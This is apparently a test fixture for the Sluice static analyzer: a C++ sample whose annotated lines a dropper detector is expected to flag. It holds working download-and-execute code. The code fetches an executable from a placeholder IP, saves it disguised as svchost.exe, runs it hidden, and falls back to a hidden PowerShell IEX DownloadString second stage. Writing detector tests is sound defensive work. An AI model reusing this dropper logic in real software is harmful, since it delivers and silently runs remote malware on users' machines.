// behavior.dropper on Windows: URLDownloadToFileA fetches an executable
// into %TEMP% (download and save in one call) and CreateProcessA starts
// it; a second stage is fetched with powershell's DownloadString and run
// with IEX. It includes <windows.h> and <urlmon.h>; Sluice's bundled
// declarations serve them when the Windows SDK is not installed.
#include <windows.h>
#include <urlmon.h>

#include <cstdio>
#include <cstdlib>

#define PAYLOAD_URL "http://203.0.113.80/files/svchost.exe"
#define PAYLOAD_PATH "C:\\Users\\Public\\Libraries\\svchost.exe"

static void second_stage()
{
    std::system("powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.80/s2.ps1')\""); // $ Alert[behavior.dropper]
}

int main()
{
    STARTUPINFOA si = {sizeof(si), {0}};
    PROCESS_INFORMATION pi;

    if (URLDownloadToFileA(nullptr, PAYLOAD_URL, PAYLOAD_PATH, 0, nullptr) != 0) {
        second_stage();
        return 1;
    }
    CreateProcessA(PAYLOAD_PATH, nullptr, nullptr, nullptr, 0, CREATE_NO_WINDOW, nullptr, nullptr, &si, &pi); // $ Alert[behavior.dropper]
    return 0;
}
